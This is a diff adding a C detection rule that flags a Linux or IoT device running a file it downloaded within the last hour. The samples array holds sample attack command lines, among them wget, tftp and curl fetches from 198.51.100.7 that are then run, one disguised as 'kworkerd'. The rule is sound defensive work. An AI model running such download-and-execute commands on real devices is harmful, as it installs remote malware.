@@ -1,0 +1,65 @@
+#include "detect/command_facts.h"
+#include "detect/rule.h"
+
+#define REMEMBERED_US HOURS_US(1) /* from the download to the run */
+
+/* What is run: the command itself, or the script that an interpreter is given. */
+static struct text what_runs(const struct command *command)
+{
+    for (size_t i = 1; command_is_interpreter(command) && i < command->word_count; i++)
+        if (command->words[i].count && command->words[i].bytes[0] != '-')
+            return command->words[i];
+    return command->path;
+}
+
+/* Paths are written in several ways, "./x" after a cd: the file's name is what the two have in common. */
+static void judge(struct judging *judging)
+{
+    const struct command_line *line = judging->line;
+    const struct event *event = judging->event;
+
+    for (size_t i = 0; i < line->count; i++) {
+        const struct command *command = &line->commands[i];
+        struct text source, target, run = what_runs(command), name = event_base_name(run);
+        if (command_downloads(command, &source, &target)) {
+            if (target.count)
+                memory_note(judging->memory, judging->rule->id, TEXT("files"), event_base_name(target), 1, event->at_us, REMEMBERED_US);
+            continue;
+        }
+        bool somewhere = run.count > name.count; /* it is named with its folder, so it is no command of the system's */
+        if (!name.count || !somewhere || text_starts(run, TEXT("/usr/")) || text_starts(run, TEXT("/bin/")) || text_starts(run, TEXT("/sbin/")))
+            continue;
+        if (!memory_has(judging->memory, judging->rule->id, TEXT("files"), name, event->at_us + 1, REMEMBERED_US))
+            continue;
+        struct finding *finding = finding_add(judging, name);
+        finding_reason(finding, "CommandLine", TEXT("what is run was downloaded within the last hour"), line->text);
+        finding_entity(finding, FINDING_FILE, run);
+        return;
+    }
+}
+
+static const struct rule_sample samples[] = {
+    {true, "$ wget -O /tmp/kworkerd http://198.51.100.7/k\n+5 $ chmod +x /tmp/kworkerd\n+5 $ /tmp/kworkerd"},
+    {true, "$ tftp -g -r mips.bin 198.51.100.7\n+20 $ ./mips.bin"},
+    {true, "$ curl -o /var/tmp/i.sh http://198.51.100.7/i.sh\n$ sh /var/tmp/i.sh"},
+    {false, "$ wget -O /tmp/catalog.json https://example.org/catalog.json\n$ cat /tmp/catalog.json"},
+    {false, "$ wget -O /tmp/tool http://198.51.100.7/tool\n+4000 $ /tmp/tool"},
+    {false, "$ /tmp/tool"},
+};
+
+const struct rule rule_backdoor = {
+    .id = "IoT_LinuxBackdoor",
+    .title = "A file was downloaded, then run",
+    .severity = "Medium",
+    .tactics = "Persistence, Execution, CommandAndControl",
+    .techniques = "T1105, T1204.002, T0867",
+    .fires = "A program or script run by its path within an hour after a file of that name was downloaded on the device.",
+    .spares = "Downloads that are only read; programs of the system's own folders.",
+    .needs = "Processes with their command lines.",
+    .tuning = "An exception for the device's own updater.",
+    .remediation = rule_ask_user,
+    .kinds = EVENT_BIT(EVENT_PROCESS),
+    .remembers = true,
+    .judge = judge,
+    RULE_SAMPLES(samples),
+};
